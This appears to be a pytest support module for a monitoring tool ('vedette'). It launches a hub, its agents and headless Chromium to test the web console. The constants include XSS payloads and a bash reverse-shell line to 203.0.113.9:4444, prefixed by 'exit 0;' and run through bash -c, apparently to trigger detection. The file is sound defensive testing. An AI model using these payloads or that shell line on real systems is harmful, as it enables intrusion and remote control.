"""A hub and its agent as `vedette up` starts them, and Debian's Chromium before the console."""

import re
import signal
import subprocess
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from support import PATIENCE_S, VEDETTE, free_port
from vedette.hub.detect.schema import Database
from vedette.hub.registry import Registry
from vedette.hub.registry.users import Role, Users

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "**bold** [x](javascript:window.pwned=1)",
    "';window.pwned=1;//\"><svg/onload=window.pwned=1>",
)
ODD_DEVICE = "o'neil(1)%41#?*,=@$"
SHELL = "exit 0; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
"""Looks like a reverse shell to a rule, and ends before it is one."""

PASSWORD = "correct horse battery staple"
IN_CHROMIUM = [
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium"),
]
"""Marks of the modules that use it."""

PAGE_MS = PATIENCE_S * 1_000
"""Until a wait of the browser is given up as a failure."""


def until(condition: Callable[[], Any], what: str, patience: float = PATIENCE_S) -> Any:
    """Poll another process's visible state; fails with what was awaited."""
    deadline = time.monotonic() + patience
    while not (value := condition()):
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.3)
    return value


class Site:
    """A running hub with this machine's agent. one_time: the password of its first user."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.port = free_port()
        self.base = f"https://localhost:{self.port}/console"
        self._output = root.with_suffix(".out")
        self.mqtt_port = free_port()
        ports = ["--mqtt-port", str(self.mqtt_port), "--https-port", str(self.port)]
        command = [*VEDETTE, "up", "--plain", "--bind", "127.0.0.1", "--state", str(root), *ports]
        with self._output.open("w") as output:
            self._process = subprocess.Popen(command, stdout=output, stderr=output)
        said = until(lambda: self._said(r"agent +this machine, as device (\S+)"), "the start")
        self.device = said[1]
        found = self._said(r"first sign-in: admin, password (\S+)")
        assert found, self._output.read_text()
        self.one_time = found[1]

    def _said(self, pattern: str) -> re.Match[str] | None:
        assert self._process.poll() is None, self._output.read_text()
        return re.search(pattern, self._output.read_text())

    @contextmanager
    def users(self) -> Iterator[Users]:
        """The users of the hub, as another process sees them."""
        database = Database(f"sqlite:///{self.root / 'hub/registry.db'}")
        yield Users(database.read, database.write)
        database.close()

    def add_user(self, name: str, role: Role) -> None:
        """A user with PASSWORD."""
        with self.users() as users:
            users.add(name, role)
            users.set_password(name, PASSWORD)

    @contextmanager
    def registry(self) -> Iterator[Registry]:
        """The registry of the hub, as another process sees it."""
        opened = Registry(f"sqlite:///{self.root / 'hub/registry.db'}")
        yield opened
        opened.close()

    def shell(self, command: str) -> None:
        """A command for the agent to see."""
        subprocess.run(["bash", "-c", command], check=False, stderr=subprocess.DEVNULL)

    @contextmanager
    def agent(
        self, name: str, provisioning: str, files: Mapping[str, bytes] = MappingProxyType({})
    ) -> Iterator[None]:
        """One more agent of this machine, which registers itself by this document, and files beside it."""
        home = self.root / name
        home.mkdir()
        for file, content in {"provisioning.json": provisioning.encode(), **files}.items():
            (home / file).touch(0o600)
            (home / file).write_bytes(content)
        where = ["--config", str(home), "--state", str(home), "--port", str(self.mqtt_port)]
        command = [*VEDETTE, "agent", "run", *where, "--ca", str(self.root / "hub/pki/ca.pem")]
        with (home / "log").open("w") as output:
            process = subprocess.Popen(command, stdout=output, stderr=output)
        try:
            yield
        finally:
            process.send_signal(signal.SIGINT)
            process.wait(PATIENCE_S)

    def run(self, *arguments: str) -> str:
        """Another `vedette` command against this hub's state."""
        command = [*VEDETTE, *arguments, "--state", str(self.root / "hub")]
        done = subprocess.run(command, text=True, capture_output=True, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def stop(self) -> None:
        """End hub and agent."""
        self._process.terminate()  # a shell's background jobs ignore what Ctrl+C sends
        self._process.wait(PATIENCE_S)


class Visitor:
    """A browser window. complaints: errors of its console, and requests to anywhere but the hub."""

    def __init__(self, browser: Any, site: Site, **options: Any) -> None:
        self._site = site
        self.context = browser.new_context(
            ignore_https_errors=True, **{"viewport": {"width": 1440, "height": 900}, **options}
        )
        self.page = self.context.new_page()
        self.page.set_default_timeout(PAGE_MS)
        self.complaints: list[str] = []
        self.page.on("console", self._heard)
        self.page.on("pageerror", lambda error: self.complaints.append(f"page error: {error}"))
        self.page.on("request", self._asked)

    def _heard(self, message: Any) -> None:
        if message.type == "error":
            self.complaints.append(message.text)

    def _asked(self, request: Any) -> None:
        host = f"localhost:{self._site.port}"
        if not request.url.startswith((f"https://{host}/", f"wss://{host}/", "data:", "blob:")):
            self.complaints.append(f"request to {request.url}")

    def sign_in(self, name: str, password: str = PASSWORD) -> None:
        """Through the form."""
        self.page.goto(f"{self._site.base}/sign-in")
        self.page.fill("[name=name]", name)
        self.page.fill("[name=password]", password)
        self.page.click("button[type=submit]")

    def open(self, path: str, text: str = "") -> Any:
        """Go to a page of the console and wait until it shows a text; returns the page."""
        self.page.goto(self._site.base + path)
        self.page.wait_for_selector("div.page")
        if text:
            self.page.get_by_text(text).first.wait_for()
        return self.page


@contextmanager
def chromium() -> Iterator[Any]:
    """A headless browser."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=FLAGS)
        yield browser
        browser.close()
